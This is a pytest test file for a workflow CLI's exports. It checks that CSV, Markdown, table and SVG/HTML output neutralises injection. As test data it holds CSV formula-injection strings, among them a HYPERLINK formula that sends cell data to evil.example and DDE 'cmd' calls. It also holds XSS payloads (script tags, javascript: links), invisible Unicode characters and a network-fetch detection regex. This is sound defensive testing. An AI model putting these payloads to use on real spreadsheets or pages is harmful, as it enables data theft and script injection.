"""Exports that carry injection (issue 13, section 3): CSV a spreadsheet would run,
Markdown a renderer would turn into HTML or links, invisible Unicode, look-alike escapes,
and exports that fetch from the network.

One store holds every hostile text below in every text field the CSV and Markdown
commands show; every command with those formats is run on it. The checks do not reuse the
tool's code: CSV is parsed with the csv module, Markdown rendered by two real renderers.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from stabilize_cli.cli.app import app
from stabilize_cli.events import (
    EntityType,
    EventRecorder,
    EventReplayer,
    SqliteEventStore,
    StageRecord,
    TaskRecord,
    WorkflowRecord,
    event_context,
)
from stabilize_cli.render.output import Column, csv_cell, markdown_cell, markdown_row
from stabilize_cli.render.sanitize import clean, inert

from .rendered import LINKIFYING, RENDERERS, TABLE_TAGS, render

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # fullwidth equals sign
)
"""OWASP's triggers at the start of a cell, and their variants."""
MARKDOWN = (
    "<script>alert(1)</script>",
    '<img src="http://evil.example/x.png" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![x](http://evil.example/track.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "`code` **bold** _em_ ~~strike~~ a|b",
    "&lt;b&gt; &amp; &#x3C;",
    "[ref]: http://evil.example",
    "\\` \\| \\[x\\]",
)
"""Raw HTML, links, images, autolinks, code spans, emphasis, cell breaks, entities."""
INVISIBLE = (
    "tag\U000e0041\U000e0042\U000e007f",
    "soft\xadhyphen",
    "line\u2028para\u2029",
    "mongolian\u180evowel",
    "annot\ufff9a\ufffab\ufffb",
    "hangul\u115f\u1160\u3164\uffa0",
    "cgj\u034f",
    "vs\ufe00a\ufe0fb",
    "private\ue000use",
    "bidi\u202e\u2066x\u2069",
)
"""Invisible characters of every class the issue names."""
TEXTS = FORMULAS + MARKDOWN + INVISIBLE
T0 = datetime(2026, 11, 28, 14, 0, tzinfo=UTC)


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        self.now += timedelta(milliseconds=250)
        return self.now


def _run(recorder: EventRecorder, index: int, text: str) -> str:
    """A failed workflow whose every shown text field holds ``text``."""
    wf_id, stage_id, task_id = f"W{index:02d}{text}", f"S{index:02d}{text}", f"T{index:02d}{text}"
    task = TaskRecord(id=task_id, name=text, stage_id=stage_id, implementing_class=text)
    stage = StageRecord(id=stage_id, ref_id=text, name=text, type=text, workflow_id=wf_id)
    stage.tasks = [task]
    wf = WorkflowRecord(id=wf_id, application=text, name=text, stages=[stage])
    wf.context = {text: text}
    recorder.record_workflow_created(wf, source_handler=text)
    recorder.record_workflow_started(wf, source_handler=text)
    recorder.record_stage_started(stage, source_handler=text)
    recorder.record_task_started(task, wf_id, source_handler=text)
    recorder.record_task_failed(task, wf_id, text, source_handler=text)
    recorder.record_stage_failed(stage, text, source_handler=text)
    recorder.record_workflow_failed(wf, text, source_handler=text)
    return wf_id


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("injection") / "injected.db"
    with SqliteEventStore(str(path)) as store:
        recorder = EventRecorder(store, publish_to_bus=False, clock=Clock())
        ids = []
        for index, text in enumerate(TEXTS):
            with event_context(correlation_id=f"C{index}", actor=text):
                ids.append(_run(recorder, index, text))
        for index, wf_id in enumerate(ids[:3]):
            state = EventReplayer(store).rebuild_workflow_state(wf_id)
            store.save_snapshot(EntityType.WORKFLOW, wf_id, wf_id, 1, 3 + index, state)
        for index, text in enumerate(TEXTS):
            store.save_subscription(f"{text}-{index}", None, {text: text}, index, text)
    return path


@dataclass(frozen=True)
class Command:
    args: Callable[[Path], list[str]]
    codes: frozenset[int] = frozenset({0})
    rows: bool = True
    """It shows rows on this store (``verify`` may find nothing)."""

    def __str__(self) -> str:
        return " ".join(self.args(Path("db")))


COMMANDS = [
    Command(lambda db: ["workflows"]),
    Command(lambda db: ["events", "--limit", "1000"]),
    Command(lambda db: ["history", "latest", "--all"]),
    Command(lambda db: ["history", f"T{len(TEXTS) - 1:02d}{TEXTS[-1]}"]),
    Command(lambda db: ["failures"]),
    Command(lambda db: ["metrics"]),
    Command(lambda db: ["snapshots", "list"]),
    Command(lambda db: ["snapshots", "prune", "--keep", "0", "--dry-run"]),
    Command(lambda db: ["subscriptions", "list"]),
    Command(lambda db: ["verify"], frozenset({0, 1}), rows=False),
]
"""Every command with CSV and Markdown output."""


def run(db: Path, command: Command, fmt: str) -> Result:
    argv = [*command.args(db), "--db", str(db), "--format", fmt]
    result = CliRunner().invoke(app, argv, prog_name="stabilize", catch_exceptions=False)
    assert result.exit_code in command.codes, result.stderr
    return result


# -- CSV ----------------------------------------------------------------------------------

TRIGGERS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def csv_rows(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("command", COMMANDS, ids=str)
def test_no_csv_cell_starts_a_formula(injected: Path, command: Command) -> None:
    """A cell a spreadsheet would evaluate starts with ``'``; numbers the tool writes as
    numbers (sequences, counts, durations) stay numbers, so a negative one may lead."""
    output = run(injected, command, "csv").stdout
    header, *rows = csv_rows(output)
    assert rows or not command.rows, "the command shows rows"
    for row in rows:
        assert len(row) == len(header)
        for cell in row:
            first = cell.lstrip(" ")[:1]
            if first in TRIGGERS or cell[:1] in ("\t", "\r"):
                assert is_number(cell), f"{cell!r} in {row}"


def test_text_that_reads_as_a_number_is_still_text(injected: Path) -> None:
    rows = csv_rows(run(injected, COMMANDS[0], "csv").stdout)
    names = {row[2] for row in rows[1:]}
    assert "'-5" in names
    assert "'+1" in names
    assert "'-2+3" in names


@given(text=st.text(st.sampled_from([*TRIGGERS, " ", "1", "a", "'", '"', ",", "\n"]), max_size=8))
@settings(max_examples=300, deadline=None)
def test_csv_cells_never_start_a_formula_and_keep_their_text(text: str) -> None:
    written = csv_cell(text)
    assert written.lstrip(" ")[:1] not in TRIGGERS
    assert written[:1] not in ("\t", "\r")
    guarded = inert(text).lstrip(" ")[:1] in TRIGGERS
    assert written == ("'" if guarded else "") + inert(text)


@given(number=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_written_as_numbers_stay_numbers(number: float) -> None:
    written = csv_cell(number)
    assert (int(written) if isinstance(number, int) else float(written)) == number


def test_json_and_ndjson_keep_the_text_as_stored(injected: Path) -> None:
    result = run(injected, COMMANDS[0], "json")
    for text in FORMULAS[:3]:
        assert f'"name": {_json(text)}' in result.stdout


def _json(text: str) -> str:
    return json.dumps(text)


# -- Markdown -----------------------------------------------------------------------------


@pytest.mark.parametrize("renderer", sorted(RENDERERS))
@pytest.mark.parametrize("command", COMMANDS, ids=str)
def test_markdown_renders_as_a_table_of_text_only(
    injected: Path, command: Command, renderer: str
) -> None:
    """Only table elements, only alignment attributes, and each cell's text exactly the
    CSV cell's (without its formula guard; NULL and empty as the mark)."""
    markdown = run(injected, command, "markdown").stdout
    shown = render(markdown, RENDERERS[renderer])
    assert shown.tags <= TABLE_TAGS, shown.tags
    assert {name for name, _ in shown.attributes} <= {"style", "align"}
    _, *cells = shown.rows
    _, *expected = csv_rows(run(injected, command, "csv").stdout)
    if not expected:
        return  # a header alone: renderers differ on an empty body
    assert cells == [[_unguarded(c).strip() or "∅" for c in row] for row in expected]


def _unguarded(cell: str) -> str:
    return cell[1:] if cell[:1] == "'" and cell[1:].lstrip(" ")[:1] in TRIGGERS else cell


@pytest.mark.parametrize("command", COMMANDS, ids=str)
def test_a_linkifying_renderer_links_nothing_but_plain_web_addresses(
    injected: Path, command: Command
) -> None:
    markdown = run(injected, command, "markdown").stdout
    for renderer in LINKIFYING.values():
        shown = render(markdown, renderer)
        assert shown.tags <= {*TABLE_TAGS, "a"}
        for name, value in shown.attributes:
            assert name in ("style", "align", "href"), name
            if name == "href":
                assert value is not None
                assert value.startswith(("http://", "https://")), value


MARKDOWN_PIECES = st.sampled_from([*"<>&[]()|`*_~!#\\:/'\" -=+.aZ19", "javascript:", "http://x"])
MARKDOWN_TEXT = st.lists(MARKDOWN_PIECES, max_size=20).map("".join)


@given(texts=st.lists(MARKDOWN_TEXT, min_size=1, max_size=3))
@settings(max_examples=300, deadline=None)
def test_any_text_in_a_markdown_cell_renders_as_itself(texts: list[str]) -> None:
    columns = [Column(f"c{i}", f"C{i}") for i in range(len(texts))]
    document = markdown_row(c.header for c in columns)
    document += markdown_row("---" for _ in columns)
    document += markdown_row(markdown_cell(text) for text in texts)
    for renderer in RENDERERS.values():
        shown = render(document, renderer)
        assert shown.tags <= TABLE_TAGS
        assert shown.rows[-1] == [inert(t).strip() if t else "∅" for t in texts]


def test_events_follow_guards_csv_and_escapes_markdown_too(
    injected: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The followed stream writes its own rows: the same guards apply."""

    def interrupt(seconds: float) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("time.sleep", interrupt)
    for fmt in ("csv", "markdown"):
        argv = ["events", "--follow", "--limit", "1000", "--db", str(injected), "--format", fmt]
        result = CliRunner().invoke(app, argv, prog_name="stabilize", catch_exceptions=False)
        assert result.exit_code == 130, result.stderr
        if fmt == "csv":
            for row in csv_rows(result.stdout)[1:]:
                for cell in row:
                    assert cell.lstrip(" ")[:1] not in TRIGGERS or is_number(cell), cell
        else:
            shown = render(result.stdout, RENDERERS["markdown-it"])
            assert shown.tags <= TABLE_TAGS
            assert "<script>alert(1)</script>" in shown.text


# -- invisible characters -----------------------------------------------------------------

HIDDEN_CATEGORIES = {"Cc", "Cf", "Zl", "Zp", "Co", "Cs", "Cn"}
IGNORABLE = (
    *range(0x034F, 0x0350),
    *range(0x115F, 0x1161),
    *range(0x17B4, 0x17B6),
    *range(0x180B, 0x1810),
    0x3164,
    *range(0xFE00, 0xFE10),
    0xFFA0,
    *range(0xE0100, 0xE01F0),
)
"""Unicode's Default_Ignorable_Code_Point outside those categories (written out here,
independently of the tool's own list)."""


def invisible(char: str, before: str) -> bool:
    if char in "\n":
        return False
    if ord(char) in (0xFE0E, 0xFE0F) and before and _emoji_base(before):
        return False  # an emoji (or text) presentation sequence
    return unicodedata.category(char) in HIDDEN_CATEGORIES or ord(char) in IGNORABLE


def _emoji_base(char: str) -> bool:
    """Symbols (emoji are So, arrows Sm, skin tones Sk) and keycap bases."""
    if char in "#*0123456789\u203c\u2049":
        return True
    return not char.isascii() and unicodedata.category(char) in ("So", "Sm", "Sk")


def assert_nothing_invisible(text: str) -> None:
    for index, char in enumerate(text):
        before = text[index - 1] if index else ""
        assert not invisible(char, before), f"U+{ord(char):04X} in {text[:80]!r}"


@pytest.mark.parametrize("fmt", ["table", "csv", "markdown"])
@pytest.mark.parametrize("command", COMMANDS, ids=str)
def test_no_invisible_character_reaches_tables_csv_or_markdown(
    injected: Path, command: Command, fmt: str
) -> None:
    result = run(injected, command, fmt)
    assert_nothing_invisible(result.stdout)
    assert_nothing_invisible(result.stderr)


def unescape(shown: str) -> str:
    """The inverse of the tool's escaping, written from its documented rule: a run of
    2k+1 backslashes before an escape of an invisible character is k backslashes and
    that character; 2k backslashes are k backslashes and the escape's text; any other
    backslash is text (``\\xff``: the tool never escapes ``ÿ``)."""

    def back(match: re.Match[str]) -> str:
        run, escape = match.group(1), match.group(2)
        code = int(escape[1:], 16) if escape is not None else 0
        if escape is None or (code <= 0x10FFFF and not _written_escaped(chr(code))):
            return match.group()
        if len(run) % 2:
            return "\\" * (len(run) // 2) + chr(int(escape[1:], 16))
        return "\\" * (len(run) // 2) + escape

    return re.sub(r"(\\+)(x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})?", back, shown)


def _written_escaped(char: str) -> bool:
    return char == "\n" or invisible(char, "")


ANY_CHARACTER = st.characters(codec=None, exclude_categories=())


LOOK_ALIKES = st.sampled_from(["\\", "x1b", "u200b", "xff", "U000e0041", "Uffffffff"])


@given(text=st.lists(st.one_of(ANY_CHARACTER, LOOK_ALIKES)).map("".join))
@settings(max_examples=500, deadline=None)
def test_shown_text_has_nothing_invisible_and_reads_back_unambiguously(text: str) -> None:
    shown = inert(text)
    assert_nothing_invisible(shown.replace("\n", "\\x0a"))
    assert unescape(shown) == text
    assert_nothing_invisible(clean(text))


def test_a_literal_escape_and_a_real_escape_never_look_the_same(tmp_path: Path) -> None:
    db = tmp_path / "look-alike.db"
    with SqliteEventStore(str(db)) as store:
        recorder = EventRecorder(store, publish_to_bus=False, clock=Clock())
        for index, text in enumerate(["a\x1b[31mb", "a\\x1b[31mb", "c\u200bd", "c\\u200bd"]):
            _run(recorder, index, text)
    for fmt in ("table", "csv", "markdown"):
        output = run(db, Command(lambda db: ["workflows"]), fmt).stdout
        if fmt == "markdown":
            output = render(output, RENDERERS["markdown-it"]).text
        assert "a\\x1b[31mb" in output  # the real ESC
        assert "a\\\\x1b[31mb" in output  # the text
        assert "c\\u200bd" in output
        assert "c\\\\u200bd" in output


# -- SVG and HTML exports -----------------------------------------------------------------

FETCH = re.compile(
    r"@import|@font-face[^}]*url\(|url\(\s*['\"]?\s*(?:https?:)?//|<link\b|<script\b|<iframe\b"
    r"|<image\b|\b(?:src|href|xlink:href)\s*=\s*['\"]?\s*(?:https?:)?//",
    re.IGNORECASE,
)
"""Anything a browser or an SVG viewer would fetch when the file is opened."""


@pytest.mark.parametrize("suffix", [".svg", ".html"])
@pytest.mark.parametrize("index", [0, len(FORMULAS), len(TEXTS) - 1])
def test_an_export_fetches_nothing(injected: Path, tmp_path: Path, suffix: str, index: int) -> None:
    target = tmp_path / f"timeline{suffix}"
    workflow = f"W{index:02d}{TEXTS[index]}"
    command = Command(lambda db: ["timeline", workflow, "--export", str(target)])
    run(injected, command, "json")
    exported = target.read_text(encoding="utf-8")
    assert FETCH.search(exported) is None, FETCH.search(exported)
    assert "cdnjs" not in exported
    assert_nothing_invisible(exported.replace("\n", " "))
